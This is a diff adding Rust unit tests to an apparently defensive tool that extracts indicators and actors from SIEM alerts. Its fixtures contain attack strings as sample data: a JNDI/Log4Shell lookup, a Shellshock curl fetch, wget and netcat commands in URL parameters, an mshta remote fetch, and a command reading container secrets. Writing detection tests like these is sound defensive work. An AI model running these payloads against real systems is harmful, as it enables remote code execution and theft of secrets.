@@ -185,6 +185,133 @@ fn every_family_gives_its_indicators() {
 }
 
 #[test]
+fn one_thing_in_two_spellings_is_one_indicator() {
+    let eventdata = |data: Value| json!({"data": {"win": {"eventdata": data}}});
+    for (value, expected) in [
+        (
+            json!({"data": {"srcip": "::ffff:203.0.113.9", "src_ip": "203.0.113.9", "client_ip": "203[.]0[.]113[.]9:443"}}),
+            &[("ip-src", "203.0.113.9")][..],
+        ),
+        (
+            json!({"data": {"srcip": "2001:db8:0:0:0:0:0:1", "src_ip": "[2001:DB8::0001]:443"}}),
+            &[("ip-src", "2001:db8::1")],
+        ),
+        (
+            eventdata(json!({"queryName": "Evil.Example.", "destinationHostname": "evil.example"})),
+            &[("domain", "evil.example")],
+        ),
+        (
+            json!({"data": {"http": {"hostname": "b\u{fc}cher.example:8080"}, "tls": {"sni": "xn--bcher-kva.example"}}}),
+            &[("domain", "xn--bcher-kva.example")],
+        ),
+        (
+            eventdata(
+                json!({"commandLine": "curl HTTP://Evil.Example:80/%61 hxxp[:]//evil[.]example/a http%3A%2F%2Fevil.example%2Fa"}),
+            ),
+            &[("domain", "evil.example"), ("url", "http://evil.example/a")],
+        ),
+        (
+            eventdata(json!({"commandLine": "curl https://203.0.113.9 https://3405803785/ https://203.0.113.9:443"})),
+            &[("ip-dst", "203.0.113.9"), ("url", "https://203.0.113.9/")],
+        ),
+        (
+            eventdata(json!({"hashes": format!("MD5={}", MD5.to_uppercase()), "hash": MD5})),
+            &[("md5", MD5)],
+        ),
+        (
+            json!({"data": {"sender": "Eve@Evil.Example", "mailfrom": "<eve@evil.example.>"}}),
+            &[("email", "eve@evil.example")],
+        ),
+        (
+            json!({"data": {"l": [{"targetFilename": "C:\\x\\Invoice.EXE"}, {"targetFilename": "C:\\y\\invoice.exe"}]}}),
+            &[("filename", "Invoice.EXE")],
+        ),
+        // A list of all addresses does not hide at which end one stood.
+        (
+            json!({"wazuh": {"rule": {"id": "x"}}, "related": {"ip": ["203.0.113.9", "198.51.100.1"]}, "source": {"ip": "203.0.113.9"}}),
+            &[("ip-src", "203.0.113.9"), ("ip-any", "198.51.100.1")],
+        ),
+    ] {
+        expect(&value, expected);
+    }
+}
+
+#[test]
+fn indicators_are_found_where_they_are_written_small() {
+    let eventdata = |data: Value| json!({"data": {"win": {"eventdata": data}}});
+    let ssh = "Jan 20 09:02:17 web01 sshd[17]: Failed password for invalid user x from 203.0.113.9 port 4022 ssh2";
+    for (value, expected) in [
+        // A line that no decoder took apart; one that was taken apart says nothing new.
+        (json!({"full_log": ssh}), &[("ip-src", "203.0.113.9")][..]),
+        (json!({"full_log": ssh, "data": {"srcip": "10.0.0.1"}}), &[]),
+        // What an attacker wants a server to fetch.
+        (
+            json!({"data": {"srcuser": "${jndi:ldap://evil.example:1389/a}"}}),
+            &[("domain", "evil.example"), ("url", "ldap://evil.example:1389/a")],
+        ),
+        (
+            json!({"decoder": {"name": "web-accesslog"}, "data": {"srcip": "10.0.0.1", "url": "/"},
+                "full_log": "10.0.0.1 - - \"GET / HTTP/1.1\" 404 1 \"https://shop.example/\" \"() { :;}; /bin/bash -c 'curl http://203.0.113.9/s'\""}),
+            &[("ip-dst", "203.0.113.9"), ("url", "http://203.0.113.9/s")],
+        ),
+        (
+            json!({"data": {"srcip": "10.0.0.1", "url": "/x.php?cmd=wget%20http://evil.example/a.sh%20-O%20/tmp/a&v=8.8.8.8"}}),
+            &[("domain", "evil.example"), ("url", "http://evil.example/a.sh")],
+        ),
+        (
+            json!({"data": {"srcip": "10.0.0.1", "url": "/x.php?cmd=nc+203.0.113.9+4444"}}),
+            &[("ip-dst", "203.0.113.9")],
+        ),
+        // Where a download came from, what a registry value and a subscription run.
+        (
+            eventdata(json!({"contents": "[ZoneTransfer]  ZoneId=3  HostUrl=https://evil.example/x.exe"})),
+            &[("domain", "evil.example"), ("url", "https://evil.example/x.exe")],
+        ),
+        (
+            eventdata(json!({"details": "mshta http://203.0.113.9/x.hta"})),
+            &[("ip-dst", "203.0.113.9"), ("url", "http://203.0.113.9/x.hta")],
+        ),
+        // Remote desktop.
+        (
+            json!({"data": {"win": {"eventXML": {"user": "CORP\\\\x", "address": "203.0.113.9"}}}}),
+            &[("ip-src", "203.0.113.9")],
+        ),
+        // Sensors and proxies that give host and path apart.
+        (
+            json!({"data": {"id": {"orig_h": "10.0.0.1", "orig_p": "50000", "resp_h": "203.0.113.9", "resp_p": "80"}, "host": "evil.example", "uri": "/gate.php"}}),
+            &[
+                ("ip-dst", "203.0.113.9"),
+                ("domain", "evil.example"),
+                ("url", "http://evil.example/gate.php"),
+            ],
+        ),
+        (
+            json!({"data": {"srcip": "203.0.113.9", "dstip": "10.0.0.1", "hostname": "shop.corp.example", "url": "/x"}}),
+            &[("ip-src", "203.0.113.9")],
+        ),
+        // Clouds.
+        (
+            json!({"data": {"aws": {"source": "guardduty", "service": {"action": {"dnsRequestAction": {"domain": "c2.evil.example"}}}}}}),
+            &[("domain", "c2.evil.example")],
+        ),
+        (
+            json!({"data": {"office365": {"UserId": "a@corp.example", "Parameters": [{"Name": "ForwardTo", "Value": "Eve@evil.example;b@corp.example"}, {"Name": "From", "Value": "c@evil.example"}]}}}),
+            &[("email", "eve@evil.example")],
+        ),
+        (
+            json!({"data": {"ms-graph": {"evidence": [{"p1Sender": {"emailAddress": "eve@evil.example"}, "fileDetails": {"sha256": SHA256, "fileName": "a.docm"}, "lastExternalIpAddress": "8.8.8.8"}]}}}),
+            &[
+                ("email", "eve@evil.example"),
+                ("sha256", SHA256),
+                ("filename", "a.docm"),
+            ],
+        ),
+    ] {
+        expect(&value, expected);
+    }
+}
+
+#[test]
 fn what_is_ones_own_or_nobodys_is_no_indicator() {
     for ip in [
         "10.1.2.3",
@@ -211,6 +338,13 @@ fn what_is_ones_own_or_nobodys_is_no_indicator() {
     assert_eq!(mine.indicators(&own), []);
     let machine = json!({"data": {"win": {"system": {"computer": "WS-1.ad.corp.test-org.com"}, "eventdata": {"queryName": "dc01.ad.corp.test-org.com"}}}});
     expect(&machine, &[]);
+    let named = json!({"agent": {"id": "001", "name": "web-01.corp.test-org.com"}, "data": {"http": {"hostname": "web-01.corp.test-org.com"}, "sni": "x.corp.test-org.com"}});
+    expect(&named, &[]);
+    // A name in one's own domain, and the name of a file.
+    expect(
+        &json!({"data": {"http": {"hostname": "update.exe"}, "query": "a.dll"}}),
+        &[],
+    );
     let documented =
         alert(&json!({"data": {"srcip": "203.0.113.7", "dstip": "8.8.8.8"}})).indicators(&OwnNetworks::none());
     assert_eq!(
@@ -232,6 +366,17 @@ fn what_only_looks_like_a_hash_is_none() {
     ] {
         expect(&json!({"data": {"win": {"eventdata": {"hashes": hashes}}}}), &[]);
     }
+    // One that was cut has the length of another.
+    expect(
+        &json!({"data": {"win": {"eventdata": {"hashes": format!("SHA256={SHA1}")}}}}),
+        &[],
+    );
+    expect(&json!({"syscheck": {"sha256_after": SHA1, "md5_after": SHA1}}), &[]);
+    // A person, a request and a picture of a container have digests of their own.
+    expect(
+        &json!({"data": {"aws": {"requestParameters": {"x-amz-content-sha256": SHA256}}}, "user": {"hash": MD5}, "container": {"image": {"hash": {"all": [SHA256]}}}}),
+        &[],
+    );
     // A request id is as long as a hash.
     expect(
         &json!({"data": {"aws": {"requestID": MD5, "eventID": SHA1}, "id": MD5}}),
@@ -378,6 +523,76 @@ fn actors_tell_accounts_groups_registry_and_requests_apart() {
         &json!({"data": {"win": {"system": {"providerName": "Microsoft-Windows-Sysmon", "eventID": "10"}, "eventdata": {"sourceImage": "C:\\\\a.exe", "targetImage": "C:\\\\lsass.exe", "targetUser": "NT AUTHORITY\\\\SYSTEM"}}}}),
     );
     assert_eq!(access.actors().target.unwrap().image.as_deref(), Some(r"C:\lsass.exe"));
+}
+
+#[test]
+fn actors_name_the_far_end_by_its_name() {
+    let connection = alert(
+        &json!({"data": {"win": {"eventdata": {"sourceIp": "10.0.0.1", "sourceHostname": "ws-1", "destinationIp": "203.0.113.9", "destinationHostname": "evil.example", "destinationPort": "443"}}}}),
+    );
+    let actors = connection.actors();
+    let (from, to) = (&actors.sources[0], &actors.destinations[0]);
+    assert_eq!(
+        (from.ip.as_deref(), from.host.as_deref()),
+        (Some("10.0.0.1"), Some("ws-1"))
+    );
+    assert_eq!(
+        (to.ip.as_deref(), to.host.as_deref(), to.port),
+        (Some("203.0.113.9"), Some("evil.example"), Some(443))
+    );
+    assert_eq!(
+        (actors.destinations.len(), actors.domains.as_slice()),
+        (1, &["evil.example".into()][..])
+    );
+    let explicit = alert(&json!({"data": {"win": {"eventdata": {"targetServerName": "dc01.corp.example"}}}}));
+    assert_eq!(
+        explicit.actors().destinations[0].host.as_deref(),
+        Some("dc01.corp.example")
+    );
+    let finding =
+        alert(&json!({"wazuh": {"rule": {"id": "x"}}, "destination": {"domain": "evil.example", "ip": "203.0.113.9"}}));
+    assert_eq!(finding.actors().destinations[0].host.as_deref(), Some("evil.example"));
+}
+
+#[test]
+fn actors_are_read_where_no_field_names_them() {
+    let ssh = alert(
+        &json!({"rule": {"groups": ["sshd"]}, "full_log": "Jan 20 09:02:17 web01 sshd[17]: Failed password for invalid user admin from 203.0.113.9 port 4022 ssh2"}),
+    );
+    let actors = ssh.actors();
+    assert_eq!(
+        (
+            actors.sources[0].ip.as_deref(),
+            actors.sources[0].port,
+            actors.users[0].name.as_ref()
+        ),
+        (Some("203.0.113.9"), Some(4022), "admin")
+    );
+    let cleared = alert(
+        &json!({"data": {"win": {"system": {"eventID": "1102", "providerName": "Microsoft-Windows-Eventlog", "message": "\"The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tS-1-5-21-1-500\r\n\tAccount Name:\twardog\r\n\tDomain Name:\tCORP\""}}}}),
+    );
+    assert_eq!(
+        (
+            cleared.actors().users[0].name.as_ref(),
+            cleared.actors().users[0].domain.as_deref()
+        ),
+        ("wardog", Some("CORP"))
+    );
+    let rootkit = alert(
+        &json!({"location": "rootcheck", "data": {"title": "Rootkit 'Adore' detected by the presence of file '/usr/lib/libt'."}}),
+    );
+    assert_eq!(rootkit.actors().files, ["/usr/lib/libt"]);
+    let shell = labelled("docker_exec_shell");
+    assert_eq!(
+        shell.actors().process.unwrap().command_line.as_deref(),
+        Some("/bin/sh -c cat /run/secrets/db_password")
+    );
+    let virus = alert(
+        &json!({"data": {"win": {"eventdata": {"path": "containerfile:_C:\\\\a.zip; file:_C:\\\\a.zip->x.exe; webfile:_C:\\\\b.exe|http://evil.example/b.exe|pid:1", "detection User": "CORP\\\\j.doe", "process Name": "C:\\\\explorer.exe"}}}}),
+    );
+    let actors = virus.actors();
+    assert_eq!(actors.files, ["C:\\a.zip", "C:\\b.exe"]);
+    assert_eq!(actors.users[0].name, "CORP\\j.doe");
 }
 
 #[test]
